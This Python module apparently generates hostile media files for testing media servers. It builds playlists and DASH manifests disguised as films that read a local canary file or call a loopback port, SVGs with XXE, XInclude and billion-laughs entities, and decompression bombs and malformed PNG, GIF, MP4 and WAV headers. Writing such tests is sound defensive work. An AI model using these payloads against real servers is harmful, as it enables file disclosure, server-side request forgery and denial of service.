"""Generators of hostile files, small and from nothing: traps for readers of media, bombs, damage.

Each answers bytes; nothing here opens or sends anything. The shapes are those of published attacks on
media servers (playlist and DASH file reads, SSRF, decompression bombs).
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path


def disguised(canary: Path, port: int) -> dict[str, bytes]:
    """Lists of other files and addresses that call themselves films: name to content."""
    web = f"http://127.0.0.1:{port}"
    near = canary.name
    return {
        "hls_absolute.mp4": _hls(f"{canary}"),
        "hls_file_url.mp4": _hls(f"file://{canary}"),
        "hls_neighbour.mov": _hls(near),
        "hls_http.ts": _hls(f"{web}/a.ts"),
        "hls_concat.mkv": _hls(f"concat:{web}/a.m3u8|file://{canary}"),
        "hls_subfile.mp4": _hls(f"subfile,,start,0,end,64,,:{canary}"),
        "hls_crypto.mp4": _hls(f"crypto+file:{canary}"),
        "hls_key.mp4": _hls(near, f'#EXT-X-KEY:METHOD=AES-128,URI="{web}/key"'),
        "hls_map.mp4": _hls(near, f'#EXT-X-MAP:URI="{canary}"'),
        "hls_master_file.mp4": _master(str(canary)),
        "hls_master_http.ts": _master(f"{web}/v.m3u8"),
        "hls_self.mp4": _master("hls_self.mp4"),
        "hls_many.mp4": _hls(*[f"missing_{number}.ts" for number in range(20_000)]),
        "dash_file.mp4": _dash(f"file://{canary}"),
        "dash_http.mp4": _dash(f"{web}/"),
        "ffconcat_absolute.mxf": f"ffconcat version 1.0\nfile '{canary}'\n".encode(),
        "ffconcat_neighbour.mp4": f"ffconcat version 1.0\nfile {near}\n".encode(),
        "sdp.mp4": f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n".encode(),
        "asx.wmv": f'<asx version="3.0"><entry><ref href="{web}/x.wmv"/></entry></asx>'.encode(),
        "ram.rm": f"{web}/x.rm\n".encode(),
        "playlist_before_film.mp4": _hls(str(canary)) + b"\0\0\0 ftypisom\0\0\2\0isomiso2avc1mp41",
    }


def _hls(*lines: str) -> bytes:
    """A media playlist of these segments (lines that begin with # are tags)."""
    body = "\n".join(line if line.startswith("#") else f"#EXTINF:1,\n{line}" for line in lines)
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n{body}\n#EXT-X-ENDLIST\n".encode()


def _master(child: str) -> bytes:
    """A master playlist of one variant."""
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{child}\n".encode()


def _dash(base: str) -> bytes:
    """A DASH manifest whose segments lie at `base`."""
    return (
        '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
        f'bandwidth="1"><BaseURL>{base}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>'
    ).encode()


def svgs(canary: Path, port: int) -> dict[str, bytes]:
    """Drawings that read, call or explode."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "image.svg": f'{head} width="9" height="9"><image xlink:href="file://{canary}"/></svg>'.encode(),
        "remote.svg": f'{head} width="9" height="9"><image xlink:href="http://127.0.0.1:{port}/"/></svg>'.encode(),
        "entity.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary}">]>{head}>'
        "<text>&x;</text></svg>".encode(),
        "include.svg": f'{head} width="9" height="9"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{canary}" parse="text"/></svg>'.encode(),
        "laughs.svg": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{entities}]>{head}><text>&l9;</text></svg>'.encode(),
        "huge.svg": f'{head} width="1000000" height="1000000"><rect width="9" height="9"/></svg>'.encode(),
    }


def nested_use_svg(depth: int = 30) -> bytes:
    """A drawing of ten to the power of `depth` squares in a few hundred bytes."""
    groups = "".join(
        f'<g id="a{level}">' + f'<use xlink:href="#a{level - 1}"/>' * 10 + "</g>" for level in range(1, depth)
    )
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'width="90" height="90">'
        f'<defs><rect id="a0" width="9" height="9"/>{groups}</defs><use xlink:href="#a{depth - 1}"/></svg>'
    ).encode()


def png(width: int, height: int, *, depth: int = 1, rows: int | None = None, extra: bytes = b"") -> bytes:
    """A grey PNG of zeros; `rows` of image data where it should be short, `extra` chunks before it."""
    deflate = zlib.compressobj(1)
    row = bytes(1 + (width * depth + 7) // 8)
    data = b"".join(deflate.compress(row) for _ in range(height if rows is None else rows)) + deflate.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    chunks = _chunk(b"IHDR", header) + extra + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def text_bomb(megabytes: int = 64) -> bytes:
    """A zTXt chunk of a few kilobytes that unpacks to so many megabytes."""
    return _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(megabytes << 20), 9))


def _chunk(name: bytes, data: bytes) -> bytes:
    """One PNG chunk."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def huge_gif() -> bytes:
    """A GIF that claims 65 535 pixels a side and holds one."""
    screen = struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\0"
    return b"GIF89a" + screen + image + b";"


def deep_boxes(depth: int = 50_000) -> bytes:
    """MP4 boxes in boxes: a reader that recurses runs out of stack."""
    sizes = (8 * (depth - level) for level in range(depth))
    return b"\0\0\0\x14ftypisom\0\0\2\0isom" + b"".join(struct.pack(">I4s", size, b"moov") for size in sizes)


def four_gigabyte_wav() -> bytes:
    """A WAV whose header promises 4 GB and that holds 4 KB."""
    form = struct.pack("<HHIIHH", 1, 2, 48000, 192000, 4, 16)
    head = b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<I", 16) + form + b"data\xff\xff\xff\xff"
    return head + bytes(4096)
